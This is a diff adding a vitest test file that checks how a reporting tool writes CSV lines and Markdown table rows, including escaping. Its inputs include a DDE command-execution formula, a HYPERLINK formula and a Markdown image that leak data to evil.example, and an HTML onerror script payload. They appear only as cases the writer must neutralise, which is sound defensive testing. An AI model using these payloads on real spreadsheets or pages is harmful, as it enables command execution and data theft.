@@ -1,0 +1,62 @@
+import { describe, expect, test } from 'vitest';
+import { forms } from '#tools/workspace/report-lines.ts';
+
+const csv = (...cells: string[]) => forms.csv.line(cells);
+const markdown = (...cells: string[]) => forms.markdown.line(cells);
+
+describe('a line of CSV, RFC 4180 §2', () => {
+  test.for([
+    [['a', 'b'], 'a,b\r\n'],
+    [['', ''], ',\r\n'],
+    [['a,b', 'c'], '"a,b",c\r\n'],
+    [['say "yes"'], '"say ""yes"""\r\n'],
+    [['one\ntwo', 'one\r\ntwo', 'one\rtwo'], '"one\ntwo","one\r\ntwo","one\rtwo"\r\n'],
+    [['ä 漢 😀', 'a b'], 'ä 漢 😀,a b\r\n'],
+  ] as const)('of %j is %j', ([cells, line]) => {
+    expect(csv(...cells)).toBe(line);
+  });
+
+  test.for([
+    '=1+1',
+    "=cmd|'/c calc'!A1",
+    '=HYPERLINK("https://evil.example?"&A1,"x")',
+    '+1',
+    '-1+1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    ' =1',
+    '\u00a0=1',
+    '\tx',
+    '\uff1d1',
+    '\uff0b1',
+    '\uff0d1',
+    '\uff201',
+  ])('has no cell that a spreadsheet would compute: %j', (cell) => {
+    expect(csv(cell)).toBe(`"'${cell.replaceAll('"', '""')}"\r\n`);
+  });
+
+  test.for(['a=1', '1-2', 'a@b.example', "it's", '2026-01-01'])('leaves %s as it is', (cell) => {
+    expect(csv(cell)).toBe(`${cell}\r\n`);
+  });
+});
+
+describe('a line of a Markdown table, GFM §4.10', () => {
+  test('has a head that names the columns', () => {
+    expect(forms.markdown.head(['a', 'b'])).toBe('| a | b |\n| --- | --- |\n');
+  });
+
+  test.for([
+    ['a | b', 'a \\| b'],
+    ['a \\| b', 'a \\\\\\| b'],
+    ['one\ntwo\r\nthree\rfour\u2028five', 'one<br>two<br>three<br>four<br>five'],
+    ['| x |\n| --- |', '\\| x \\|<br>\\| --- \\|'],
+    ['![x](https://evil.example/p.png)', '\\!\\[x\\](https://evil.example/p.png)'],
+    ['<img src=x onerror=alert(1)>', '\\<img src=x onerror=alert(1)\\>'],
+    ['`code` **bold** _it_ ~~no~~ &lt; $x$', '\\`code\\` \\*\\*bold\\*\\* \\_it\\_ \\~\\~no\\~\\~ \\&lt; \\$x\\$'],
+    ['2026-01-01 ä 漢 😀', '2026-01-01 ä 漢 😀'],
+  ] as const)('keeps %j in its cell, and shows it as it is', ([cell, shown]) => {
+    expect(markdown(cell, 'next')).toBe(`| ${shown} | next |\n`);
+  });
+});
